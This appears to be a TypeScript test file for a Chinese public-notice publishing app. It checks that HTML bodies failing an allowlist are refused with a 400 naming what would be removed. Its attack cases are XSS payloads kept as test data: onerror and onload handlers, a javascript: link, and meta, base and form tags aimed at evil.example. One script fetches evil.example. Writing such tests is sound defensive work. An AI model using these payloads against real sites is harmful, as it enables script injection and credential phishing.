/**
 * Security finding 6: an HTML body is checked against the notice allowlist
 * when it is stored. A body that would lose anything to cleaning is refused
 * with 400 naming what would go (never dropped silently); a clean rich notice
 * is stored and read back as written.
 */
import { draftOf, startGongkaiApp, type ErrorBody, type PublicationBody, type RunningGongkai } from '../support/gongkai-app';

let gk: RunningGongkai;
beforeAll(async () => {
  gk = await startGongkaiApp();
}, 120_000);
afterAll(async () => {
  await gk?.stop();
});

const MAP = { name: '招生范围示意图.png', size: 20480, sha256: 'c5'.repeat(32) };

/** A notice already in the form it is stored in: self-closed void elements, links with rel. */
const RICH_NOTICE = [
  '<h1>关于做好2026年义务教育招生工作的通知</h1>',
  '<p>各区教育局、各直属学校：</p>',
  '<p>现将有关事项<strong>通知如下</strong>。</p>',
  '<h2>一、招生日程</h2>',
  '<table><thead><tr><th>阶段</th><th>时间</th></tr></thead>',
  '<tbody><tr><td>网上报名</td><td>5月10日至5月20日</td></tr><tr><td colspan="2">具体安排另行通知</td></tr></tbody></table>',
  `<p><img src="attachment:${MAP.sha256}" alt="招生范围示意图" width="600" /></p>`,
  '<p>详见<a href="https://jyj.example.gov.cn/zsxx/2026.html" rel="noopener noreferrer">市教育局网站</a>。</p>',
  '<p>示范市教育局<br />2026年3月2日</p>',
].join('\n');

function htmlDraft(body: string, attachments: unknown[] = []): Record<string, unknown> {
  return draftOf({ body, bodyFormat: 'html', attachments });
}

/** The 400's message for the body field, which must say what to remove. */
function bodyRefusal(res: { status: number; body: unknown }): string {
  expect(res.status).toBe(400);
  const errors = (res.body as ErrorBody).errors ?? [];
  expect(errors.map((e) => e.field)).toEqual(['body']);
  const message = errors[0]!.messages.join(' ');
  expect(message).toContain('保存时会被删除');
  expect(message).toContain('请在编辑器中删除这些内容后重新提交');
  return message;
}

describe('POST /publications with bodyFormat html', () => {
  const attacks: [string, string, string][] = [
    ['img with an event handler', '<p>通知</p><img/src=x/onerror=alert(1)>', '图片地址“x/onerror=alert(1)”'],
    ['img with a spaced event handler', '<img src=x onerror=alert(1)>', '<img> 的 onerror 属性'],
    ['svg with onload', '<p>通知</p><svg/onload=alert(1)>', '<svg> 元素及其中的内容'],
    ['entity-encoded javascript: link', '<a href="jav&#x61;script:alert(1)">点此查看</a>', '链接地址“javascript:alert(1)”'],
    ['meta refresh', '<meta http-equiv=refresh content="0;url=https://evil.example/"><p>通知</p>', '<meta> 标签'],
    ['base', '<base href="https://evil.example/"><p>通知</p>', '<base> 标签'],
    ['form', '<form action="https://evil.example/"><input name="pwd"></form>', '<form> 标签；<input> 标签'],
    ['script', '<p>通知</p><script>alert(1)</script>', '<script> 元素及其中的内容'],
    ['inline style', '<p style="display:none">通知</p>', '<p> 的 style 属性'],
  ];

  it.each(attacks)('refuses %s with 400 naming what would be removed', async (_name, body, named) => {
    const res = await gk.request('POST', '/publications', { as: 'zhangwei', body: htmlDraft(body) });
    expect(bodyRefusal(res)).toContain(named);
  });

  it('refuses an image of a file that is not among the item’s attachments', async () => {
    const body = `<p><img src="attachment:${MAP.sha256}" alt="图"></p>`;
    expect(bodyRefusal(await gk.request('POST', '/publications', { as: 'zhangwei', body: htmlDraft(body) }))).toContain('本稿件的附件');
    const withFile = await gk.request<PublicationBody>('POST', '/publications', { as: 'zhangwei', body: htmlDraft(body, [MAP]) });
    expect(withFile.status).toBe(201);
  });

  it('stores a clean rich notice as written and returns it', async () => {
    const created = await gk.request<PublicationBody>('POST', '/publications', { as: 'zhangwei', body: htmlDraft(RICH_NOTICE, [MAP]) });
    expect(created.status).toBe(201);
    const read = await gk.request<PublicationBody & { bodyFormat: string }>('GET', `/publications/${created.body.id}`, { as: 'zhangwei' });
    expect(read.status).toBe(200);
    expect(read.body).toMatchObject({ body: RICH_NOTICE, bodyFormat: 'html' });
  });

  it('stores the cleaned spelling of harmless markup: rel added, void elements closed', async () => {
    const created = await gk.request<PublicationBody>('POST', '/publications', {
      as: 'zhangwei',
      body: htmlDraft('<P>详见<A HREF="https://www.gov.cn/">中国政府网</A><BR>（完）</P>'),
    });
    expect(created.status).toBe(201);
    const read = await gk.request<PublicationBody>('GET', `/publications/${created.body.id}`, { as: 'zhangwei' });
    expect(read.body.body).toBe('<p>详见<a href="https://www.gov.cn/" rel="noopener noreferrer">中国政府网</a><br />（完）</p>');
  });
});

describe('POST /publications/:id/revise with bodyFormat html', () => {
  it('refuses a revision whose body would lose a script', async () => {
    const created = await gk.request<PublicationBody>('POST', '/publications', { as: 'zhangwei', body: htmlDraft('<p>初稿</p>') });
    expect(created.status).toBe(201);
    const { category: _c, attribute: _a, ...revision } = htmlDraft('<p>修订稿</p><script>fetch("https://evil.example/")</script>');
    const res = await gk.request('POST', `/publications/${created.body.id}/revise`, { as: 'zhangwei', body: { ...revision, version: 1 } });
    expect(bodyRefusal(res)).toContain('<script> 元素及其中的内容');
  });
});
